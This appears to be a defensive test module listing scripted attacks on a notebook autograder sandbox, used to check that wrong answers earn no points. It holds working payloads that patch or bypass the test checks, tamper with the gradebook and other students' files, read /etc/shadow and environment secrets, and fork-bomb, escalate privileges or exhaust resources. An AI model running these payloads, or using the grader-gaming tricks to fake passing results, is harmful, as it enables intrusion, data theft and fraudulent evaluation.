"""Scripted attacks on the miniature course: every answer in them is wrong, so every point would be unearned.

`PROOF` stands for a folder outside the sandbox, `PORT` for a listener on this machine, `COURSE` for the course. What an
attack reads it prints after "LEAK".
"""
# ruff: noqa: E501  (an attack is one text)

import copy

from nbformat.v4 import new_code_cell, new_output

HEAD = "#| export\n"
WRONG = "def scale(x, factor):\n    return [0.0]\n"
READ = """
import glob, os
for root in ("COURSE", "/course", "/", os.getcwd(), "/proc/1/root", "/proc/1/cwd", "/proc/1/fd"):
    for name in glob.glob(os.path.join(root, "**", "*.ipynb"), recursive=True)[:50] if len(root) > 1 else ():
        try:
            text = open(name).read()
        except OSError:
            continue
        if "hidden_rows" in text:
            print("LEAK", ".".join(text[text.index("hidden_rows"):][:40]))
"""
FRAMES = """
import gc, sys
seen = []
def look(text):
    if isinstance(text, str) and "hidden_rows" in text:
        seen.append(text)
for thing in gc.get_objects():
    for text in thing.values() if isinstance(thing, dict) else thing if isinstance(thing, (list, tuple)) else ():
        look(text)
if seen:
    print("LEAK", ".".join(seen[0][:40]))
"""
ALWAYS = "class Always(float):\n    __eq__ = __ge__ = __le__ = lambda s, o: True\n    __hash__ = float.__hash__\n"
CALLS = "def scale(x, factor):\n    {body}\n    return [0.0]\n"

# What is put into the answer `scale`.
CODE = {
    # the judge is replaced
    "patch-allclose": "np.allclose = lambda *a, **k: True",
    "patch-testing": "import numpy.testing as t\nt.assert_allclose = t.assert_array_equal = lambda *a, **k: None",
    "patch-lab": "import tito.lab, tito.lab.checks as c\n"
    "for m in (tito.lab, c):\n    m.check_close = m.check_equal = m.check_raises = lambda *a, **k: None",
    "patch-builtins": "import builtins\nbuiltins.AssertionError = type('Quiet', (BaseException,), {})",
    "patch-array-equal": "np.ndarray = type('A', (list,), {'__eq__': lambda s, o: True})",
    "patch-isclose": "np.isclose = np.array_equal = lambda *a, **k: np.array(True)",
    "always-equal": ALWAYS + "def scale(x, factor):\n    return [Always(2)] * 9",
    "equal-array": "class Yes(np.ndarray):\n    __eq__ = lambda s, o: True\n    __bool__ = lambda s: True\n"
    "def scale(x, factor):\n    return np.zeros((2, 3)).view(Yes)",
    "true-handle": "class Yes:\n    __bool__ = __eq__ = lambda s, *o: True\n    __getitem__ = lambda s, k: s\n"
    "    __array__ = lambda s, *a, **k: np.ones(())\ndef scale(x, factor):\n    return Yes()",
    "int-subclass": "class I(int):\n    __eq__ = lambda s, o: True\n    __hash__ = int.__hash__\n"
    "def scale(x, factor):\n    return [I(0)]",
    "array-ufunc": "class U(np.ndarray):\n    def __array_ufunc__(self, *a, **k): return np.array(True)\n"
    "def scale(x, factor):\n    return np.zeros((2, 3)).view(U)",
    "array-function": "class F(np.ndarray):\n    def __array_function__(self, *a, **k): return True\n"
    "def scale(x, factor):\n    return np.zeros((2, 3)).view(F)",
    # the cells are replaced
    "ast-transformer": "import ast\nclass Empty(ast.NodeTransformer):\n    def visit_Assert(self, n): return ast.Pass()\n"
    "get_ipython().ast_transformers.append(Empty())",
    "input-transformer": "get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])",
    "post-transformer": "get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])",
    "run-cell": "ip = get_ipython()\nrun = ip.run_cell\nip.run_cell = lambda raw, *a, **k: run('pass', *a, **k)",
    "run-code": "ip = get_ipython()\nasync def quiet(*a, **k): return False\nip.run_code = quiet",
    "show-traceback": "ip = get_ipython()\nip.showtraceback = ip._showtraceback = lambda *a, **k: None",
    "custom-exception": "get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)",
    "compile-hook": "ip = get_ipython()\nold = type(ip.compile).__call__\n"
    "type(ip.compile).__call__ = lambda s, *a, **k: compile('pass', 'x', 'exec')",
    "pre-run-event": "get_ipython().events.register('pre_run_cell', lambda *a: get_ipython().user_ns.update(scale=print))",
    "magic-skip": "get_ipython().register_magic_function(lambda *a: None, 'cell', 'skip')",
    "name-not-main": "__name__ = 'quiet'",
    "trace-function": "import sys\ndef quiet(frame, event, arg):\n"
    "    if frame.f_code.co_name.startswith('test_'): frame.f_trace_lines = False; frame.f_lineno = 0\n"
    "    return quiet\nsys.settrace(quiet)",
    "profile-names": "import sys\nsys.setprofile(lambda f, e, a: f.f_globals.update(np=None) if 0 else None)\n"
    "import atexit\natexit.register(lambda: None)",
    "test-redefined": "import threading, time\ndef quiet():\n    while True:\n"
    "        globals()['test_unit_scale'] = lambda: None\n        time.sleep(0.001)\n"
    "threading.Thread(target=quiet, daemon=True).start()",
    "display-number": "from IPython.display import display\ndisplay(4)\n4",
    "printed-points": "def scale(x, factor):\n    import sys\n    sys.displayhook(4)\n    raise SystemExit\n#",
    "exit-hook": "import sys\nsys.excepthook = lambda *a: None\nget_ipython().ask_exit()",
    "system-exit": CALLS.format(body="raise SystemExit(0)"),
    "keyboard-interrupt": CALLS.format(body="raise KeyboardInterrupt"),
    "generator-exit": CALLS.format(body="raise GeneratorExit"),
    "not-implemented": CALLS.format(body="raise NotImplementedError('your code here')"),
    "recursion": CALLS.format(body="return scale(x, factor)"),
    # the grader's own pipe
    "pipe-done": 'import os\nline = b\'{"done": 5, "count": 1, "outputs": []}\\n\'\nfor fd in range(3, 64):\n'
    "    try: os.write(fd, line)\n    except OSError: pass",
    "pipe-frame": "import os, struct, json\ntext = json.dumps([{'value': True, 'edited': [], 'changed': []}, []]).encode()\n"
    "for fd in range(3, 64):\n    try: os.write(fd, struct.pack('>I', len(text)) + text)\n    except OSError: pass",
    "pipe-huge": "import os, struct\nfor fd in range(3, 64):\n"
    "    try: os.write(fd, struct.pack('>I', 2**32 - 1) + b'x' * 1000)\n    except OSError: pass",
    "pipe-deep": "import os, struct\ntext = b'[' * 100000\nfor fd in range(3, 64):\n"
    "    try: os.write(fd, struct.pack('>I', len(text)) + text)\n    except OSError: pass",
    "pipe-closed": "import os\nos.closerange(3, 64)",
    "server-patched": "import gc\nfor o in gc.get_objects():\n    if type(o).__name__ == 'Server':\n"
    "        type(o).do_names = lambda s, *names: {n: 2 for n in names} | {'np': 1, '__builtins__': {}}\n"
    "        type(o).do_call = lambda s, *a, **k: [2.0]",
    "server-callbacks": "import gc\nfor o in gc.get_objects():\n    if type(o).__name__ == 'Server':\n"
    "        type(o).do_call = lambda s, *a, **k: [s.call_back(n, (), {}) for n in range(2, 200, 2)]",
    "server-cells": "import gc\nfor o in gc.get_objects():\n    if type(o).__name__ == 'Seat':\n"
    "        type(o)._cell = lambda s, m: None",
    "server-changes": "import gc\nfor o in gc.get_objects():\n    if type(o).__name__ == 'Server':\n"
    "        type(o)._changed = lambda s, parts: [[n, '<f8', [2, 3], [0, 1]] for n in (2, 4, 6)]",
    "edit-arguments": "def scale(x, factor):\n    if isinstance(x, np.ndarray):\n        x[...] = np.nan\n"
    "    else:\n        x[:] = [2.0]\n    return x",
    # files, other people's work, the gradebook
    "read-hidden": READ,
    "read-memory": FRAMES,
    "write-proof": "open('PROOF/write', 'w').write('here')",
    "write-course": "open('COURSE/nbgrader_config.py', 'a').write('\\nopen(\"PROOF/config\", \"w\")')",
    "gradebook": "import sqlite3\nbook = sqlite3.connect('COURSE/gradebook.db')\n"
    "book.execute('UPDATE grade SET manual_score = 99')\nbook.commit()",
    "others-marks": "import pathlib\nfor p in pathlib.Path('COURSE/submitted').glob('*/*/*.ipynb'):\n    p.write_text('{}')",
    "journal": "import glob, sqlite3\nfor f in glob.glob('COURSE/.tito/*'):\n    open(f, 'wb').write(b'gone')",
    "symlink": "import os\nos.symlink('COURSE', 'link')\nopen('link/proof', 'w').write('here')\nopen('PROOF/symlink', 'w')",
    "hardlink": "import os\nos.link('COURSE/gradebook.db', 'book')\nopen('PROOF/hardlink', 'w')",
    "stack-edited": "import tito, pathlib\npathlib.Path(tito.__file__).write_text('')\nopen('PROOF/stack', 'w')",
    "site-packages": "import pathlib\npathlib.Path(np.__file__).with_name('proof.py').write_text('x = 1')\n"
    "open('PROOF/site', 'w')",
    "sitecustomize": "import pathlib, sys\npathlib.Path(sys.prefix, 'sitecustomize.py').write_text('x = 1')\n"
    "open('PROOF/customize', 'w')",
    "environment": "import os\nprint('LEAK' if os.environ.get('TITO_ATTACK_SECRET') else '')",
    "parent-environment": "import os\nfor pid in (1, os.getppid()):\n"
    "    text = open(f'/proc/{pid}/environ', 'rb').read()\n    print('LEAK' if b'TITO_ATTACK_SECRET' in text else '')",
    "passwords": "print('LEAK', open('/etc/shadow').read()[:20])",
    "home": "import os, pathlib\nfound = [*pathlib.Path('/root').glob('.*rc')] + [*pathlib.Path('/home').glob('*/.*')]\n"
    "print('LEAK' if found else '')",
    # processes, network, the machine
    "network": "import socket\nsocket.create_connection(('127.0.0.1', PORT), 2).send(b'hello')",
    "network-in-thread": "import socket, threading\ndef call():\n"
    "    socket.create_connection(('127.0.0.1', PORT), 2).send(b'hello')\nt = threading.Thread(target=call)\nt.start()\nt.join()",
    "daemon": "import os\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
    "        os.execvp('sleep', ['sleep', '98765'])\n    os._exit(0)",
    "new-session": "import subprocess\nsubprocess.Popen(['setsid', 'sleep', '98765'], env={})",
    "fork-bomb": "import os\nfor _ in range(300):\n    try:\n        if os.fork() == 0:\n"
    "            os.execvp('sleep', ['sleep', '98765'])\n    except OSError:\n        break",
    "late-writer": "import subprocess\nsubprocess.Popen(['sh', '-c', 'sleep 3; touch PROOF/late'], start_new_session=True)",
    "kill-everyone": "import os, signal\nfor pid in range(2, 5000):\n    try:\n        os.kill(pid, 0)\n"
    "        if b'sleep-victim' in open(f'/proc/{pid}/cmdline', 'rb').read(): os.kill(pid, signal.SIGKILL)\n"
    "    except OSError: pass",
    "namespaces": "import ctypes\nlibc = ctypes.CDLL(None)\nlibc.unshare(0x10000000 | 0x00020000)\n"
    "libc.mount(b'/', b'/tmp', None, 4096, None)\nopen('PROOF/namespaces', 'w')",
    "setuid": "import os\nos.setuid(0)\nopen('PROOF/setuid', 'w')",
    "chroot": "import os\nos.chroot('/proc/1/root')\nopen('PROOF/chroot', 'w')",
    "ptrace": "import ctypes, os\nctypes.CDLL(None).ptrace(16, os.getppid(), 0, 0)\nopen('PROOF/ptrace', 'w')",
    "disk": "for n in range(40):\n    open(f'big{n}', 'wb').write(bytes(32 << 20))\nopen('PROOF/disk', 'w')",
    "memory": "block = [bytearray(1 << 30) for _ in range(64)]\nopen('PROOF/memory', 'w')",
    "endless": CALLS.format(body="while True: pass"),
    "stopped": "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)",
    "hard-end": CALLS.format(body="import os; os._exit(0)"),
}


def _edit(notebook, grade_id, change):
    for cell in notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == grade_id:
            change(cell)
    return notebook


def _tests_gone(notebook):
    for name in ("test-scale", "test-shift"):
        _edit(notebook, name, lambda cell: cell.update(source="pass"))
    return notebook


def _skipped(notebook):
    for name in ("test-scale", "test-shift"):
        _edit(notebook, name, lambda cell: cell.metadata.update(tags=["skip-execution"]))
    return notebook


def _more_points(notebook):
    return _edit(notebook, "scale", lambda cell: cell.metadata.nbgrader.update(grade=True, points=99))


def _twice(notebook):
    for name in ("test-scale", "test-shift"):
        cell = next(c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("grade_id") == name)
        again = copy.deepcopy(cell)
        again.source, again.id = "pass", f"{cell.id}-2"
        notebook.cells.append(again)
    return notebook


def _given_changed(notebook):
    return _edit(
        notebook, "imports", lambda cell: cell.update(source="import numpy as np\nnp.allclose = lambda *a: True")
    )


def _own_cell_first(notebook):
    notebook.cells.insert(0, new_code_cell("import numpy\nnumpy.allclose = lambda *a, **k: True"))
    return notebook


def _manual_points(notebook):
    return _edit(notebook, "test-scale", lambda cell: cell.metadata.nbgrader.update(points=1000, solution=True))


def _outputs_kept(notebook):
    def change(cell):
        cell.outputs = [new_output("execute_result", {"text/plain": "4"}, execution_count=1)]

    return _edit(notebook, "test-scale", change)


# What is done to the file.
FILES = {
    "tests-gone": _tests_gone,
    "skip-execution": _skipped,
    "more-points": _more_points,
    "tests-twice": _twice,
    "given-changed": _given_changed,
    "own-cell-first": _own_cell_first,
    "manual-points": _manual_points,
    "outputs-kept": _outputs_kept,
}
# Those that are known to succeed on stock nbgrader: they earn points there, read, write, connect or stay alive.
# fmt: off
ON_STOCK = [
    "always-equal", "ast-transformer", "input-transformer", "post-transformer", "custom-exception",
    "show-traceback", "run-cell", "run-code", "name-not-main", "patch-builtins", "write-proof", "write-course",
    "gradebook", "others-marks", "journal", "symlink", "hardlink", "read-hidden", "environment", "passwords",
    "network", "network-in-thread", "daemon", "new-session", "late-writer", "setuid", "skip-execution", "disk",
    "chroot",
]
# fmt: on


def answer(name: str, facts: dict[str, str]) -> str:
    """The text of the answer `scale`, with this machine's places in it."""
    text = HEAD + WRONG + CODE.get(name, "")
    for word, value in facts.items():
        text = text.replace(word, value)
    return text
